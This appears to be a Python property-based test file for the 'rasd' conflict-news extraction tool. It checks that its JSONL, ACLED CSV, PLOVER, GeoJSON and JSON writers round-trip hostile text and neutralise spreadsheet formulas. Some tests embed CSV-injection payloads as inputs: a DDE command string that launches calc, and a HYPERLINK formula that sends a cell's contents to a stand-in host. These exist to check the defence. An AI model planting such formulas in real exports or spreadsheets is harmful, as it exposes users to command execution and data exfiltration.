"""Writers under hostile text (hypothesis): JSONL and ACLED CSV round trips, CSV injection, valid JSON.

Regression for #10: rasd reads text written by parties to a war; whatever an article, an outlet name or an
analyst note holds (Arabic, quotes, commas, newlines, bidi marks, NULs, formulas), every writer must give back
exactly the values it was given, and no acled-csv cell may open as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import date
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from rasd.document import MENTION_KINDS, Document, Event, Mention, Metadata, Section, Span
from rasd.export import get_writer
from rasd.export.acled_csv import FORMULA_CHARS, HEADER, neutralise

# characters that break naive CSV/JSON writers or spreadsheets: Arabic letters and diacritics, quotes of every
# kind, separators, line breaks (also the ones str.splitlines honours: U+2028/9, NEL, FS), bidi controls
# (LRM/RLM, embeddings/overrides, isolates), NUL, BOM, astral emoji, and the formula starters of OWASP's list
HOSTILE = (
    "ابتثجحخدسشعغقكلمنهويءآأإؤئىة\u064b\u064e\u0651ـ٠١٢٣٤٥٦٧٨٩۰۱۲"
    "\"'«»“”‘’,;،؛\n\r\t "
    "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"
    "\x00\\/<>&{}[]\u2028\u2029\x85\x1c\ufeff"
    "=+-@|!%$"
    "aZ09."
    "\U0001f4a3\U0001f1f8\U0001f1fe"
)
hostile_text = st.text(alphabet=HOSTILE, max_size=40)
# text that starts with a formula character half of the time
formula_text = st.one_of(
    hostile_text, st.builds(lambda c, t: c + t, st.sampled_from(FORMULA_CHARS), hostile_text)
)
opt_text = st.none() | formula_text
finite = st.floats(allow_nan=False, allow_infinity=False, width=64)
coord = st.none() | st.floats(-180, 180, allow_nan=False)


@st.composite
def spans_in(draw: st.DrawFn, text: str, max_size: int = 3) -> list[Span]:
    out = []
    for _ in range(draw(st.integers(0, max_size))):
        a = draw(st.integers(0, len(text)))
        b = draw(st.integers(a, len(text)))
        out.append(Span.of(text, a, b))
    return out


@st.composite
def events(draw: st.DrawFn, text: str, kind: str) -> Event:
    ev = Event(
        event_type=draw(opt_text),
        sub_event_type=draw(opt_text),
        plover=draw(opt_text),
        event_date=draw(st.none() | st.dates().map(date.isoformat)),
        time_precision=draw(st.none() | st.integers(1, 3)),
        actor1=draw(opt_text),
        actor2=draw(opt_text),
        inter1=draw(st.none() | st.integers(1, 8)),
        inter2=draw(st.none() | st.integers(1, 8)),
        actor1_ar=draw(opt_text),
        location=draw(opt_text),
        country=draw(st.none() | st.sampled_from(["Syria", "Iraq", "Yemen", "Atlantis"])),
        admin1=draw(opt_text),
        pcode=draw(opt_text),
        latitude=draw(st.none() | st.floats(-90, 90, allow_nan=False)),
        longitude=draw(coord),
        geo_precision=draw(st.none() | st.integers(1, 3)),
        fatalities=draw(st.none() | st.integers(0, 10**6)),
        fatalities_text=draw(opt_text),
        wounded=draw(st.none() | st.integers(0, 10**6)),
        civilian_targeting=draw(st.booleans()),
        modality=draw(st.sampled_from(["reported", "claimed", "denied"])),
        attributed_to=draw(opt_text),
        evidence=draw(spans_in(text)),
        field_evidence={"fatalities": draw(spans_in(text, 2))},
        confidence=round(draw(st.floats(0, 1)), 4),
        flags=draw(st.lists(formula_text, max_size=3)),
        notes=draw(opt_text),
        kind=kind,
        event_id=draw(st.none() | st.text(alphabet="0123456789abcdef-ev", min_size=1, max_size=20)),
    )
    return ev


@st.composite
def documents(draw: st.DrawFn) -> Document:
    text = draw(st.text(alphabet=HOSTILE, max_size=120))
    a = draw(st.integers(0, len(text)))
    b = draw(st.integers(a, len(text)))
    meta = Metadata(
        url=draw(opt_text),
        source=draw(opt_text),
        title=draw(opt_text),
        published=draw(st.none() | st.dates()),
        views=draw(st.none() | st.integers(0, 10**9)),
        language=draw(st.none() | st.sampled_from(["ar", "en"])),
        spans={"published": Span.of(text, a, b)} if draw(st.booleans()) else {},
        extra={"x": draw(hostile_text)},
    )
    # to_dict writes ACLED events first, then statements: generate them in that order
    acled = draw(st.lists(events(text, "acled"), max_size=3))
    stmts = draw(st.lists(events(text, "statement"), max_size=2))
    sections = [Section("body", Span.of(text, a, b), Span.of(text, a, a) if draw(st.booleans()) else None)]
    mentions = [
        Mention(
            draw(st.sampled_from(MENTION_KINDS)),
            sp,
            {"value": draw(st.integers(0, 10**13)), "note": draw(hostile_text), "span": [sp.start, sp.end]},
            draw(st.none() | hostile_text),
            draw(hostile_text),
            round(draw(st.floats(0, 1)), 4),
        )
        for sp in draw(spans_in(text))
    ]
    return Document(
        id=draw(hostile_text),
        text=text,
        meta=meta,
        sections=sections,
        mentions=mentions,
        events=acled + stmts,
        flags=draw(st.lists(hostile_text, max_size=2)),
    )


def _write(fmt: str, docs: list[Document], **options: bool) -> str:
    buf = io.StringIO(newline="")
    assert get_writer(fmt)(docs, buf, **options) == len(docs)
    return buf.getvalue()


@given(st.lists(documents(), max_size=3))
@settings(max_examples=60, deadline=None)
def test_jsonl_round_trip_issue10(docs: list[Document]) -> None:
    out = _write("jsonl", docs, with_mentions=True)
    lines = out.split("\n")
    assert lines[-1] == ""  # newline-terminated; no raw newline inside a record (JSON escapes them)
    back = [Document.from_dict(json.loads(line)) for line in lines[:-1]]
    assert back == docs
    # without mentions (the default record), everything else still comes back
    plain = [Document.from_dict(json.loads(line)) for line in _write("jsonl", docs).split("\n")[:-1]]
    for got, want in zip(plain, docs, strict=True):
        assert got.mentions == [] and (got.text, got.meta, got.sections, got.events) == (
            want.text,
            want.meta,
            want.sections,
            want.events,
        )


@given(st.lists(documents(), min_size=1, max_size=3, unique_by=lambda d: d.id))
@settings(max_examples=40, deadline=None)
def test_jsonl_output_reads_back_through_rasd_read_issue10(docs: list[Document]) -> None:
    """rasd's own JSONL reader gets back every id and text exactly; a record it refuses (a text with no letters
    or digits: RASD105) is reported as an error, never dropped silently."""
    import tempfile
    from pathlib import Path

    import rasd

    with tempfile.TemporaryDirectory(prefix="rasd-prop-") as tmp:
        path = Path(tmp) / "out.jsonl"
        path.write_text(_write("jsonl", docs), encoding="utf-8", newline="")
        reader = rasd.read(path)
        back = list(reader)
    assert len(back) + len(reader.errors) == len(docs)
    texts = {d.id: d.text for d in docs}
    for doc in back:
        if doc.id in texts:
            assert doc.text == texts[doc.id]
    for err in reader.errors:
        assert err.code in ("RASD104", "RASD105"), str(err)


@given(st.lists(documents(), max_size=3))
@settings(max_examples=60, deadline=None)
def test_acled_csv_round_trip_and_no_formula_cells_issue10(docs: list[Document]) -> None:
    from rasd.export.acled_csv import row as acled_row

    out = _write("acled-csv", docs)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    expected = [acled_row(d, ev) for d in docs for ev in d.acled_events]
    assert len(rows) == len(expected)
    for got, want in zip(rows, expected, strict=True):
        assert list(got) == list(HEADER)
        for col in HEADER:
            # the same value back, as text (csv has no types): Arabic, quotes, commas, newlines, bidi, NUL
            assert got[col] == str(want[col]), col
            cell = got[col]
            if cell.startswith(FORMULA_CHARS):
                # only a plain number may start with - or +: a coordinate, a pre-1970 timestamp, a note "-5"
                assert cell.isascii() and cell.strip() == cell and math.isfinite(float(cell)), (col, cell)
    for d in docs:
        for ev in d.acled_events:
            if ev.longitude is not None:
                r = acled_row(d, ev)
                assert r["longitude"] == ev.longitude  # numeric columns are never neutralised


@given(formula_text)
def test_neutralise_rule_issue10(text: str) -> None:
    cell = neutralise(text)
    if text.startswith(FORMULA_CHARS):
        try:
            number = math.isfinite(float(text)) and text.strip() == text and text.isascii()
        except ValueError:
            number = False
        if not number:
            assert cell == "'" + text
    else:
        assert cell == text


def test_neutralise_keeps_numbers_issue10() -> None:
    assert neutralise(-3.5) == -3.5
    assert neutralise(-12) == -12
    assert neutralise("-36.83") == "-36.83"
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1:A2)") == "'@SUM(A1:A2)"
    assert neutralise("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("-١٢") == "'-١٢"  # not a number for a spreadsheet
    assert neutralise(float("-inf")) == "'-inf"
    assert neutralise("مقتل 5") == "مقتل 5"


def test_hostile_outlet_is_neutralised_in_acled_csv_issue10() -> None:
    """An outlet name or an attributed source written as a formula reaches the CSV as text."""
    ev = Event(
        event_type="Battles", sub_event_type="Armed clash", longitude=-3.25, latitude=33.5, kind="acled"
    )
    ev.attributed_to = '=HYPERLINK("http://x.example/?"&A1,"مصدر")'
    doc = Document("d", "نص", Metadata(source="+cmd|' /C calc'!A0"))
    doc.events.append(ev)
    row = next(csv.DictReader(io.StringIO(_write("acled-csv", [doc]), newline="")))
    assert row["source"].startswith("'+cmd")
    assert row["longitude"] == "-3.25"


def _json_ok(out: str) -> Any:
    return json.loads(out)


@given(st.lists(documents(), max_size=3))
@settings(max_examples=60, deadline=None)
def test_plover_is_valid_json_for_any_text_issue10(docs: list[Document]) -> None:
    data = _json_ok(_write("plover", docs))
    assert isinstance(data, list)
    assert len(data) == sum(len(d.events) for d in docs)
    flat = [(d, ev) for d in docs for ev in d.events]
    for rec, (d, ev) in zip(data, flat, strict=True):
        assert rec["rasd"]["story_id"] == d.id
        assert rec["comment"] == ev.notes
        assert rec["text"] == (ev.evidence[0].text if ev.evidence else None)


@given(st.lists(documents(), max_size=3))
@settings(max_examples=60, deadline=None)
def test_geojson_is_valid_json_for_any_text_issue10(docs: list[Document]) -> None:
    data = _json_ok(_write("geojson", docs))
    assert data["type"] == "FeatureCollection"
    located = [
        ev for d in docs for ev in d.acled_events if ev.latitude is not None and ev.longitude is not None
    ]
    assert len(data["features"]) == len(located)
    assert data["rasd:unlocated"] == sum(len(d.acled_events) for d in docs) - len(located)
    for feat, ev in zip(data["features"], located, strict=True):
        assert feat["geometry"]["coordinates"] == [ev.longitude, ev.latitude]
        assert feat["properties"]["notes"] == ev.notes
        assert feat["properties"]["actor1"] == ev.actor1


@given(st.lists(documents(), max_size=2))
@settings(max_examples=30, deadline=None)
def test_json_array_is_valid_json_issue10(docs: list[Document]) -> None:
    data = _json_ok(_write("json", docs, with_mentions=True))
    assert [Document.from_dict(r) for r in data] == docs


def test_bare_carriage_return_keeps_the_row_whole_issue10() -> None:
    """Regression for #10: csv quotes only line-terminator characters, so a bare CR split an acled-csv row."""
    ev = Event(event_type="Battles", kind="acled", notes="سطر\rسطر", actor1="a,b")
    doc = Document("d", "نص", Metadata(source="\r"))
    doc.events.append(ev)
    rows = list(csv.DictReader(io.StringIO(_write("acled-csv", [doc]), newline="")))
    assert len(rows) == 1
    assert rows[0]["notes"] == "سطر\rسطر" and rows[0]["source"] == "'\r" and rows[0]["actor1"] == "a,b"
